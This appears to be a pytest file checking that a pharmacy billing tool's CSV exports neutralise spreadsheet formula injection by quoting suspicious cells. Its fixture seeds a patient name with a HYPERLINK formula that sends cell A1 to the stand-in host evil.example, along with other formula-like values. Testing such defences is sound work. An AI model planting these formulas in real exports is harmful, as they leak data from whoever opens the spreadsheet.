"""No CSV cell a spreadsheet would run as a formula (issue 13, item 5): the month CSV, the
billable-days CSV and the claims CSV, written by the command line and read back."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from sqlalchemy import text

import main
from models.spreadsheet import cell
from tests.support.databases import billing_ready

NAME = '=HYPERLINK("http://evil.example/?"&A1,"Lindqvist")'
AUTH = "-2+3-PA"  # the schema's pattern allows a leading dash


@pytest.mark.parametrize("value, written", [
    ("=1+1", "'=1+1"), ("+1+1", "'+1+1"), ("-1+1", "'-1+1"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1+1", "'\t=1+1"), ("\r=1+1", "'\r=1+1"),
    ("-2.50", "-2.50"), ("+3", "+3"), ("12", "12"),  # a number is no formula
    ("Lindqvist, Maria", "Lindqvist, Maria"), ("", ""), (None, ""),
])
def test_a_cell_starting_like_a_formula_is_written_as_text(value, written):
    assert cell(value) == written


@pytest.fixture
def hostile(example_engine) -> str:
    """The example pharmacy whose patient is named like a formula and whose authorization
    number starts with a dash (both as a file or a form could bring them in)."""
    billing_ready(example_engine)  # the ZIP+4 every claim needs (issue 11)
    with example_engine.begin() as conn:
        conn.execute(text("UPDATE patient SET last_name = :n, first_name = :f"),
                     {"n": NAME, "f": "\rMaria"})
        conn.execute(text("UPDATE authorization SET number = :a"), {"a": AUTH})
    example_engine.dispose()
    return str(example_engine.url)


def read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as f:  # a CR inside a cell stays a CR
        return list(csv.DictReader(f))


def no_formula(rows: list[dict[str, str]]) -> None:
    for row in rows:
        for column, value in row.items():
            assert not value.startswith(("=", "+", "@", "\t", "\r")), (column, value)
            assert not value.startswith("-") or value.replace(".", "").lstrip("-").isdigit(), (
                column, value)


def test_month_csv(hostile, tmp_path):
    out = tmp_path / "month.csv"
    assert main.main(["--db", hostile, "month", "--month", "2026-10", "--out", str(out)]) == 0
    rows = read_csv(out)
    assert rows[0]["name"] == "'" + f"{NAME}, \rMaria"
    no_formula(rows)


def test_billable_days_csv(hostile, tmp_path):
    out = tmp_path / "days.csv"
    assert main.main(["--db", hostile, "billable-days", "--from", "2026-10-01", "--to",
                      "2026-10-31", "--out", str(out)]) == 0
    rows = read_csv(out)
    assert "'" + AUTH in {r["authorization"] for r in rows}
    no_formula(rows)


def test_claims_csv(hostile, tmp_path):
    out = tmp_path / "claims.csv"
    assert main.main(["--db", hostile, "claims", "--from", "2026-10-01", "--to", "2026-10-31",
                      "--format", "csv", "--out", str(out)]) == 0
    rows = read_csv(out)
    assert rows and all(r["patient_name"].startswith("'=HYPERLINK") for r in rows)
    assert "'" + AUTH in {r["authorization"] for r in rows}
    no_formula(rows)
